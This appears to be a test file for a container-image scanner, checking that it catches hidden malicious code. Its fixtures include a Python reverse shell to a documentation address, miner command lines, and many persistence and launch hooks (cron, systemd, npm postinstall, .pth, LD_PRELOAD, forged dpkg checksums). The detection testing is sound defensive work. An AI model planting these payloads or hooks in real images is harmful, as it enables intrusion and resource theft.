"""What counts as code (SCAN.md 11 to 16): whatever its name, mode or place, what the image runs is read as code."""
import zipfile
from build import *

miner = 'cd /tmp\n/usr/lib/.x/sysupd -o ' + POOL + ' -u ' + WALLET + ' -k --donate-level 1\n'
shell = '' + REVERSE + '\n'
dash = b'\x7fELF\x02\x01\x01' + bytes(9) + b'\x03\0\x3e\0\x01\0\0\0' + bytes(40)
bins = folder('bin') + file('bin/sh', dash, 0o755) + file('bin/bash', dash, 0o755) + file('bin/python3', dash, 0o755) + file('bin/node', dash, 0o755)
at = folder('opt') + file('opt/config.dat', miner)
run = lambda *entries, **kw: image(tar(bins, *entries), **kw)

admits('text that nothing runs may describe a shell', run(folder('doc'), file('doc/README', 'never use:\n' + shell), Entrypoint=['/bin/sh']))
for what, kw in (
        ('by sh', dict(Entrypoint=['/bin/sh', '/opt/config.dat'])),
        ('by sh of the PATH', dict(Cmd=['sh', '/opt/config.dat'])),
        ('by sh -c', dict(Cmd=['/bin/sh', '-c', 'exec sh /opt/config.dat'])),
        ('by source', dict(Cmd=['/bin/bash', '-c', 'source /opt/config.dat'])),
        ('by a dot', dict(Cmd=['/bin/sh', '-c', '. /opt/config.dat'])),
        ('by input', dict(Cmd=['/bin/sh', '-c', 'sh < /opt/config.dat'])),
        ('relative to the working directory', dict(Cmd=['sh', 'config.dat'], WorkingDir='/opt')),
        ('by the health check', dict(Cmd=['/bin/sh'], Healthcheck={'Test': ['CMD', 'sh', '/opt/config.dat']})),
        ('by the health check\'s shell', dict(Cmd=['/bin/sh'], Healthcheck={'Test': ['CMD-SHELL', 'sh /opt/config.dat || exit 1']})),
        ('by ONBUILD', dict(Cmd=['/bin/sh'], OnBuild=['RUN sh /opt/config.dat'])),
        ('by BASH_ENV', dict(Cmd=['/bin/bash'], Env=['BASH_ENV=/opt/config.dat'])),
        ('by ENV', dict(Cmd=['/bin/sh'], Env=['ENV=/opt/config.dat'])),
        ('as the entrypoint itself', dict(Entrypoint=['/opt/config.dat'])),
        ('by env', dict(Entrypoint=['/usr/bin/env', 'sh', '/opt/config.dat']))):
    refuses('a miner in config.dat, run ' + what, run(at, **kw))

for what, more, kw in (
        ('through a link', symlink('start', 'opt/config.dat'), dict(Entrypoint=['sh', '/start'])),
        ('through two links', symlink('a', '/b/c') + symlink('b', 'opt') + symlink('opt/c', '../opt/config.dat'), dict(Entrypoint=['sh', '/a'])),
        ('through a hard link', hardlink('start', 'opt/config.dat'), dict(Entrypoint=['sh', '/start'])),
        ('by a script', file('run', '#!/bin/sh\n. /opt/config.dat\n', 0o755), dict(Entrypoint=['/run'])),
        ('by a chain of scripts', b''.join(file('s%d' % i, 'sh /s%d\n' % (i + 1)) for i in range(5)) + file('s5', 'sh /opt/config.dat\n'), dict(Entrypoint=['sh', '/s0'])),
        ('by a variable', file('run', 'F=/opt/config\nsh $F.dat\n'), dict(Entrypoint=['sh', '/run'])),
        ('by cron.d', folder('etc') + folder('etc/cron.d') + file('etc/cron.d/x', '* * * * * root sh /opt/config.dat\n'), dict(Cmd=['sh'])),
        ('by a crontab', folder('var/spool/cron/crontabs') + file('var/spool/cron/crontabs/root', '* * * * * sh /opt/config.dat\n'), dict(Cmd=['sh'])),
        ('by profile.d', folder('etc/profile.d') + file('etc/profile.d/x.sh', '. /opt/config.dat\n'), dict(Cmd=['sh'])),
        ('by systemd', folder('etc/systemd/system') + file('etc/systemd/system/x.service', '[Service]\nExecStart=/bin/sh /opt/config.dat\n'), dict(Cmd=['sh'])),
        ('by init.d', folder('etc/init.d') + file('etc/init.d/x', '#!/bin/sh\nsh /opt/config.dat\n', 0o755), dict(Cmd=['sh'])),
        ('by rc.local', folder('etc') + file('etc/rc.local', 'sh /opt/config.dat\n'), dict(Cmd=['sh']))):
    refuses('a miner in config.dat, run ' + what, run(at, more, **kw))
refuses('a reverse shell without shebang run by python', run(folder('opt'), file('opt/data.bin', 'import socket,subprocess,os\ns=socket.socket()\ns.connect(("203.0.113.9",4444))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\nsubprocess.call(["/bin/sh","-i"])\n'), Entrypoint=['python3', '/opt/data.bin']))
refuses('a script in an upper layer', image(tar(bins), tar(at), Entrypoint=['sh', '/opt/config.dat']))
refuses('a plain reverse shell in config.dat', run(folder('opt'), file('opt/config.dat', shell), Entrypoint=['sh', '/opt/config.dat']))
refuses('postinstall of npm', run(folder('app'), file('app/package.json', json.dumps({'name': 'x', 'version': '1.0.0', 'scripts': {'postinstall': 'sh ./setup.dat'}})), file('app/setup.dat', miner), Cmd=['npm', 'start'], WorkingDir='/app'))
refuses('a .pth that runs code', run(folder('usr/lib/python3/dist-packages'), file('usr/lib/python3/dist-packages/x.pth', 'import os;os.system("bash -c \'' + REVERSE + '\'")\n'), Cmd=['sh']))
r = holds('code on a volume', run(Entrypoint=['sh', '/data/run.sh'], Volumes={'/data': {}}), skip='code on a volume')
r = holds('a program that is not in the image', run(Entrypoint=['/opt/none']), skip='program not in the image')
r = holds('and by its name', run(Entrypoint=['nothere']), skip='program not in the image')
r = scan(run(folder('lib'), file('lib/evil.so', dash, 0o644), Cmd=['sh'], Env=['LD_PRELOAD=/lib/evil.so']))
ok('LD_PRELOAD in the environment is told', any('preload' in (f['rule'] + f['title'] + f['description']).lower() for f in r.findings), short(r))
r = scan(run(folder('etc'), file('etc/ld.so.preload', '/lib/evil.so\n'), Cmd=['sh']))
ok('ld.so.preload is told', any('preload' in (f['rule'] + f['title'] + f['description']).lower() for f in r.findings), short(r))

# SCAN.md 13: signs combine over the image
wallet = '' + WALLET + ''
r = refuses('a wallet in Env, a pool in one file, a miner in another layer', image(tar(bins, folder('etc'), file('etc/pool.conf', 'url=' + POOL + '\n')),
            tar(folder('app'), file('app/run', '#!/bin/sh\nexec /app/xmrig -c /etc/pool.conf -u $WALLET --donate-level=1 --cpu-max-threads-hint=90\n', 0o755)), Env=['WALLET=' + wallet], Entrypoint=['/app/run']))
ok('is one miner finding', len({f['rule'] for f in r.findings if f['kind'] == 'miner' and f['severity'] in ('high', 'critical')}) == 1 or any(len(f['evidence']) > 1 for f in r.findings if f['kind'] == 'miner'), short(r))
r = scan(run(folder('doc'), file('doc/README.md', 'Donate: 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa\n'), Entrypoint=['sh']))
ok('a donation address alone is at most info', r.status == 0 and all(f['severity'] == 'info' for f in r.findings if f['kind'] == 'miner'), short(r))

# SCAN.md 15: a broken archive is data unless the image runs it
z = io.BytesIO()
with zipfile.ZipFile(z, 'w', zipfile.ZIP_DEFLATED) as f:
    f.writestr('__main__.py', 'print(1)\n' * 50)
whole = z.getvalue()
bad = bytearray(whole)
bad[40:60] = b'\xff' * 20
bad = bytes(bad)
admits('a broken zip that nothing runs', run(folder('t'), file('t/broken.zip', bad), Entrypoint=['sh']))
holds('the same as the program that runs', run(folder('t'), file('t/broken.zip', bad), Entrypoint=['python3', '/t/broken.zip']))
admits('a whole zip as the program', run(folder('t'), file('t/app.zip', whole), Entrypoint=['python3', '/t/app.zip']))
z = io.BytesIO()
with zipfile.ZipFile(z, 'w') as f:
    f.writestr('__main__.py', 'import os\nos.system("' + REVERSE + '")\n')
refuses('a zipapp with a reverse shell', run(folder('t'), file('t/app', b'#!/usr/bin/env python3\n' + z.getvalue(), 0o755), Entrypoint=['/t/app']))

# SCAN.md 16: a home-made package does not spare
body = ('#!/bin/sh\n' + miner).encode()
import hashlib
dpkg = folder('var/lib/dpkg/info') + file('var/lib/dpkg/status', 'Package: coreutils\nStatus: install ok installed\nArchitecture: amd64\nVersion: 9.1-1\nMaintainer: x\nDescription: x\n\n') + \
    file('var/lib/dpkg/info/coreutils.md5sums', hashlib.md5(body).hexdigest() + '  usr/bin/tool\n') + file('var/lib/dpkg/info/coreutils.list', '/usr/bin/tool\n')
refuses('a home-made package with a correct md5sums line', run(dpkg, folder('usr/bin'), file('usr/bin/tool', body, 0o755), Cmd=['sh']))
done()
